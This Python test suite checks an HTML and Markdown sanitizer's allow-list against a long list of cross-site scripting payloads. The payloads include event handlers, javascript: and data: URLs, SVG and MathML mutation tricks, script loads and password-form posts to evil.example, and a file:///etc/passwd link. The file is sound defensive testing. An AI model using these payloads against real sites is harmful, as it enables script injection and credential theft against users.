"""The allow-list: hostile snippets leave nothing active, and each is shown to be active without it."""

from __future__ import annotations

from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown

from chapbook.diag.errors import Refused
from chapbook.source import sanitize
from chapbook.source.allowlist import TAGS
from chapbook.source.markup import extensions_for, render_markdown
from chapbook.source.sanitize import MAX_INPUT, MAX_NESTING, clean_html
from support.pace import ends

URL_ATTRIBUTES = {
    "href",
    "src",
    "poster",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "srcset",
}
SAFE_STARTS = ("https://", "http://", "mailto:", "#")


class _ActiveThings(HTMLParser):
    """An independent judge, on purpose not built from the allow-list's code."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        values = {name: value or "" for name, value in attrs}
        if tag == "input" and values.get("type") not in ("checkbox", "radio"):
            self.found.append("<input>")
        for name, value in values.items():
            self._judge(tag, name, value)

    def _judge(self, tag: str, name: str, value: str) -> None:
        folded = "".join(c for c in value if c > " ").lower()
        remote_source = tag != "a" and folded.startswith(("http:", "https:", "mailto:"))
        scheme = ":" in folded.split("/")[0] and not folded.startswith(SAFE_STARTS)
        bad_url = scheme or remote_source or folded.startswith(("//", "/", "\\"))
        theme_name = name in ("id", "name", "for") and value.startswith("__") and "tabbed" not in value
        theme_class = name == "class" and any(
            each.startswith(("md-", "js-", "cb-")) for each in value.split()
        )
        only_ours = name.startswith(("on", "data-", "xmlns")) or name in (
            *("style", "srcdoc", "target", "tabindex", "autofocus", "is", "slot", "part", "popover", "ping"),
            *("http-equiv", "form", "autoplay", "contenteditable", "accesskey", "download", "rev"),
        )
        if only_ours or theme_name or theme_class or (name in URL_ATTRIBUTES and bad_url):
            self.found.append(f"{tag}[{name}={value[:30]}]")


def active(html: str) -> list[str]:
    judge = _ActiveThings()
    judge.feed(html)
    judge.close()
    return judge.found


def unclean(text: str) -> str:
    """Render as `render_markdown` does, without the allow-list."""
    extensions, configs = extensions_for()
    return Markdown(extensions=extensions, extension_configs=configs).convert(text)


HOSTILE = [
    "<script>alert(1)</script>",
    "a <script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video onloadstart=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<a href=vbscript:msgbox(1)>x</a>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/absolute.png)",
    "[x](//evil.example/)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<a href='\\\\evil.example/x'>x</a>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio autoplay src=x></audio>",
    "<source src=https://evil.example/x>",
    "<track src=https://evil.example/x>",
    "<img srcset='https://evil.example/x 1x' src=a.png>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></animate></svg>",
    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,x'></use></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=text placeholder=Password>",
    "<input type=image src=https://evil.example/x>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select><option>x</select>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='md-search js-x cb-question'>x</p>",
    "<div id=__search>x</div>",
    "<a name=__palette>x</a>",
    "<label for=__drawer>x</label>",
    "<div data-md-component=search>x</div>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<p tabindex=1 contenteditable accesskey=x>x</p>",
    "<b popover is=x-y slot=z part=w>x</b>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><maction actiontype=statusline>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    r"Formula $\href{javascript:alert(1)}{x}$ \(\text{<script>alert(1)</script>}\)",
    r"Formula $\text{<img src=x onerror=alert(1)>}$",
    r"Formula $\style{position:fixed}{x} \text{<b style=x>}$",
    "```math\n\\text{<script>alert(1)</script>}\n```",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<dialog open>x</dialog>",
    "<a href='http:javascript:alert(1)//' onclick=x>y</a>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    "> [!TIP] <img src=x onerror=alert(1)>\n> x",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "T\n:   <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "- [ ] <img src=x onerror=alert(1)>",
    "## <img src=x onerror=alert(1)> {#x}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_survives(text: str) -> None:
    assert active(unclean(text)), "control: without the allow-list this is active"
    for prefix in ("", "m-evil-"):
        assert active(render_markdown(text, id_prefix=prefix)) == []


@pytest.mark.parametrize(
    "attributes", ["onclick=alert(1)", "style='x:y'", ".md-search", "target=_blank", "srcdoc=x"]
)
def test_attribute_lists_set_nothing(attributes: str) -> None:
    text = f"*x*{{ {attributes} }}\n\n## T {{ {attributes} }}"
    assert active(Markdown(extensions=["attr_list"]).convert(text)), "control: the stock extension sets it"
    assert active(unclean(text)) == []
    assert active(render_markdown(text)) == []


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<h2 id='x'>a</h2>", '<h2 id="m-a-x">a</h2>'),
        ("<h2 id='m-a-x'>a</h2>", '<h2 id="m-a-x">a</h2>'),
        ("<a href='#x'>a</a>", '<a href="#m-a-x">a</a>'),
        ("<a name=x>a</a>", '<a name="m-a-x">a</a>'),
        ("<label for=x>a</label>", '<label for="m-a-x">a</label>'),
        ("<p aria-describedby='x y'>a</p>", '<p aria-describedby="m-a-x m-a-y">a</p>'),
        ("<a href='b.md#x'>a</a>", '<a href="b.md#x">a</a>'),
        ("<div id=__search>a</div>", '<div id="m-a-__search">a</div>'),
        ("<div id='a b'>a</div>", "<div>a</div>"),
    ],
)
def test_imported_ids_and_references_get_the_prefix(html: str, expected: str) -> None:
    assert clean_html(html, id_prefix="m-a-") == expected


def test_own_ids_stay() -> None:
    html = '<h2 id="x">a</h2><a href="#x">b</a>'
    assert clean_html(html) == html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<a href='https://e.org/'>a</a>", f'<a href="https://e.org/" rel="{sanitize.REL}">a</a>'),
        ("<a href='HTTP://e.org/' rel=opener>a</a>", f'<a href="HTTP://e.org/" rel="{sanitize.REL}">a</a>'),
        ("<a href='../b/#x' rel=opener>a</a>", '<a href="../b/#x">a</a>'),
        ("<a href='mailto:a@e.org'>a</a>", '<a href="mailto:a@e.org">a</a>'),
        ("<a href='module:x'>a</a>", "<a>a</a>"),
        ("<img src='../a%20b.png?x#y' alt>", '<img src="../a%20b.png?x#y" alt="">'),
        ("<td align=right>", ""),
        ("<table><tr><td align='x'>a", "<table><tbody><tr><td>a</td></tr></tbody></table>"),
        ("<span class='nb md-x hll'>a</span>", '<span class="nb hll">a</span>'),
        ("<p class='nb'>a</p>", "<p>a</p>"),
        ("<input type=checkbox>", ""),
        ("<input type=radio id=a name=b>", ""),
        ("<p lang=de dir=rtl>a</p>", '<p lang="de" dir="rtl">a</p>'),
        ("<p dir=x lang='\"'>a</p>", "<p>a</p>"),
        ("<!-- a -->b", "b"),
        ("<!--><img src=x onerror=alert(1)>-->", '<img src="x">--&gt;'),
        ("<a href='java  script:x'>a</a>", "<a>a</a>"),
        ("<a href='a/b:c'>a</a>", '<a href="a/b:c">a</a>'),
        ("<p title='<script>\"'>a</p>", '<p title="&lt;script&gt;&quot;">a</p>'),
    ],
)
def test_what_becomes_of_it(html: str, expected: str) -> None:
    assert clean_html(html) == expected


@pytest.mark.parametrize(
    ("url", "max_up", "kept"),
    [
        ("a.png", 0, True),
        ("../a.png", 0, False),
        ("../a.png", 1, True),
        ("a/../../b.png", 0, False),
        ("a/../b.png", 0, True),
        ("%2e%2e/b.png", 0, False),
        (".%2E/b.png", 0, False),
        ("?../x", 0, True),
        ("../../a.png", None, True),
    ],
)
def test_max_up_keeps_urls_in_the_module(url: str, max_up: int | None, kept: bool) -> None:
    assert ("src" in clean_html(f'<img src="{url}">', max_up=max_up)) is kept


def test_link_rewrites_before_the_rules_and_once() -> None:
    seen: list[str] = []

    def link(url: str) -> str:
        seen.append(url)
        return {"module:x": "../x/", "a&b": "c&d", "evil": "javascript:alert(1)"}.get(url, url)

    html = "<a href='module:x'>1</a><a href='a&amp;b'>2</a><a href=evil>3</a><video poster='p.png'></video>"
    assert clean_html(html, link=link) == (
        '<a href="../x/">1</a><a href="c&amp;d">2</a><a>3</a><video poster="p.png"></video>'
    )
    assert seen == ["module:x", "a&b", "evil", "p.png"]


def test_what_link_raises_comes_through() -> None:
    def link(url: str) -> str:
        raise LookupError(url)

    with pytest.raises(LookupError, match="x"):
        clean_html("<a href=x>1</a>", link=link)


@pytest.mark.parametrize(
    ("html", "code"),
    [
        ("x" * (MAX_INPUT + 1), "html-too-large"),
        ("<div>" * (MAX_NESTING + 1), "html-too-deep"),
        ("<div><!--</div>-->" * (MAX_NESTING + 1), "html-too-deep"),
        ('<div title="</div>">' * (MAX_NESTING + 1), "html-too-deep"),
        ("<div></x>" * (MAX_NESTING + 1), "html-too-deep"),
        ("<ul><li>" * (MAX_NESTING + 1), "html-too-deep"),
        ("<table><tr><td>" * (MAX_NESTING + 1), "html-too-deep"),
        ("<div>" * 100_000, "html-too-deep"),
        ("<br>" * 100_000, "html-too-deep"),
        ("".join(f"<b id={i}>" for i in range(90)) + "<p>x" * 5_000, "html-too-deep"),
        ("".join(f"<b id={i}><style></b></style>" for i in range(90)) + "<p>" * 5_000, "html-too-deep"),
    ],
)
def test_limits_hold_and_hold_fast(html: str, code: str) -> None:
    with ends(), pytest.raises(Refused) as caught:
        clean_html(html)
    assert caught.value.code == code


def test_within_the_limits_nothing_is_refused() -> None:
    assert clean_html("<div>" * MAX_NESTING).count("<div>") == MAX_NESTING
    assert clean_html("<p>x" * 20_000).count("<p>") == 20_000
    assert clean_html("<ul>" + "<li>x" * 500 + "</ul>").count("<li>") == 500


def test_html_that_never_settles_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(nh3, "clean", lambda html, **_: html + "<b></b>")
    with pytest.raises(Refused) as caught:
        clean_html("x")
    assert caught.value.code == "html-unstable"


FRAGMENTS = st.sampled_from(
    [
        "<math>",
        "<mtext>",
        "<mi>",
        "<table>",
        "<tr>",
        "<td>",
        "<p>",
        "<b>",
        "<a>",
        "<svg>",
        "<style>",
        "<title>",
        "<script>",
        "<!--",
        "-->",
        "</p>",
        "</table>",
        "</math>",
        "</svg>",
        "</style>",
        "<img·src=x·onerror=alert(1)>",
        "<a·href=javascript:alert(1)>",
        "<mglyph>",
        "<malignmark>",
        "<noscript>",
        "</noscript>",
        "<template>",
        "<form>",
        "<select>",
        "<option>",
        "<li>",
        "<ul>",
        "</ul>",
        "<br>",
        "</br>",
        "<![CDATA[",
        "]]>",
        "<input>",
        "x",
        "&lt;",
        "&quot;",
        '"',
        "'",
        ">",
    ]
).map(lambda piece: piece.replace("·", " "))


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, max_size=25).map("".join))
def test_any_mixture_is_harmless_and_stable(html: str) -> None:
    try:
        once = clean_html(html, id_prefix="m-a-")
    except Refused as refused:
        assert refused.code in ("html-unstable", "html-too-deep")  # noqa: PT017 - both are right
        return
    assert active(once) == []
    assert clean_html(once, id_prefix="m-a-") == once
